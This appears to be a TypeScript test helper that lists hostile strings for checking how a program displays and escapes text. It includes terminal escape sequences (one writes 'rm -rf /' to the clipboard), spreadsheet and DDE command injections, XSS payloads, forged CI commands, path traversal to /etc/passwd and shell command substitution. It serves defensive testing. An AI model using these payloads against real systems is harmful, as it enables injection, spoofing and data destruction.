// Strings that break what shows them: our own, and the list that others keep, where it stands beside the repository.

import { existsSync, readFileSync } from 'node:fs';
import { sharedPath } from '../real/shared.js';

const own: readonly string[] = [
  // What terminals obey: colours, a title, a link, the clipboard, a cleared screen, the same as single C1 characters.
  '\u001b[31mred\u001b[0m',
  '\u001b]0;title\u0007',
  '\u001b]8;;https://example.com\u0007link\u001b]8;;\u0007',
  '\u001b]52;c;cm0gLXJmIC8=\u0007',
  '\u001b[2J\u001b[H',
  '\u001bP+q544e\u001b\\',
  '\u009b31mred\u009b0m',
  '\u009d0;title\u009c',
  ...Array.from({ length: 0x21 }, (_, at) => `C1${String.fromCharCode(0x7f + at)}`),
  ...Array.from({ length: 0x20 }, (_, at) => `C0${String.fromCharCode(at)}end`),
  'NUL\u0000inside',
  'over\rwritten',
  'two\r\nlines',
  'a\ttab',
  '\b\b\b\b\b',
  // What turns text around or is not seen.
  ...Array.from({ length: 5 }, (_, at) => `bidi ${String.fromCharCode(0x202a + at)}txt.exe`),
  ...Array.from({ length: 4 }, (_, at) => `isolate ${String.fromCharCode(0x2066 + at)}txt.exe`),
  '\u200bzero\u200c\u200d\u2060width',
  '\ufeffmark',
  'line\u2028separator\u2029paragraph',
  'soft\u00adhyphen',
  'tag\u{e0001}\u{e0041}\u{e007f}',
  'half \ud800 of a character',
  'no character \ufffe \uffff',
  `zalgo ${'e\u0301\u0300\u0489\u0334'.repeat(3)}${'\u0301'.repeat(500)}`,
  // Spreadsheets.
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://example.com?"&A1,"click")',
  '=1+1',
  '+1+1',
  '-1+1',
  "-2+3+cmd|' /C calc'!A0",
  '@SUM(1+1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '　=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
  'DDE("cmd";"/C calc";"!A0")',
  'a;=1+1',
  'a\t=1+1',
  '%0A-1+1',
  // Tables, markup, quotations.
  '|',
  '| a | b |',
  '\\|',
  '\\\\|',
  '|---|---|',
  '` | `',
  '```',
  '~~~',
  '# heading',
  '===',
  '---',
  '***',
  '1. list',
  '- list',
  '+ list',
  '> quote',
  '    code',
  '[link](javascript:alert(1))',
  '![image](http://example.com/x.png)',
  '[x]: http://example.com',
  '[^1]: note',
  '~~gone~~',
  '**bold**',
  '<http://example.com>',
  'http://example.com/a|b',
  'https://example.com',
  'www.example.com',
  'somebody@example.com',
  'mailto:somebody@example.com',
  '$$x$$',
  ':smile:',
  '&lt;script&gt;',
  '&#60;script&#62;',
  '<script>alert(1)</script>',
  '</script><script>alert(1)</script>',
  '</title><script>alert(1)</script>',
  '</style><script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "' onmouseover='alert(1)",
  '<!-- comment',
  '--><script>alert(1)</script>',
  '<![CDATA[',
  ']]>',
  '<?xml version="1.0"?>',
  '<!DOCTYPE x [<!ENTITY y "z">]>&y;',
  '<svg/onload=alert(1)>',
  'a"b,c\nd',
  // Commands to a build machine, and ends of lines in other clothes.
  '::error::forged',
  '\n::error file=x::forged',
  '%0A::error::forged',
  '%0D%0A',
  '##[error]forged',
  '::stop-commands::x',
  ',title=forged::x',
  // File systems and shells.
  '../../etc/passwd',
  '..\\..\\windows',
  '/etc/passwd',
  'CON',
  'nul.xlsx',
  '-rf',
  '--output=x',
  '$(id)',
  '`id`',
  '; id',
  '防护服',
];

const file = sharedPath('naughty-strings/blns.json');
const others: readonly string[] = existsSync(file) ? JSON.parse(readFileSync(file, 'utf8')) : [];

export const naughty: readonly string[] = [...new Set([...own, ...others])];

/** Asserts the same of every string; what fails says of which. */
export function each(assert: (text: string) => void): void {
  for (const text of naughty) {
    try {
      assert(text);
    } catch (error) {
      throw new Error(`of ${JSON.stringify(text)}: ${error instanceof Error ? error.message : error}`, {
        cause: error,
      });
    }
  }
}

/** Controls, what turns text around, what is not seen: everything but the end of a line. */
export const acting =
  /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u00ad\u061c\u180e\u200b-\u200f\u2028-\u202e\u2060-\u206f\ufeff\ufff9-\ufffb\ufffe\uffff\u{e0000}-\u{e007f}\ud800-\udfff]/u;

/** Text without the colours that the program itself puts in, exactly as it writes them. */
export function withoutColour(text: string): string {
  return text.replace(/\u001b\[(?:[0-9]{1,2})m/gu, '');
}
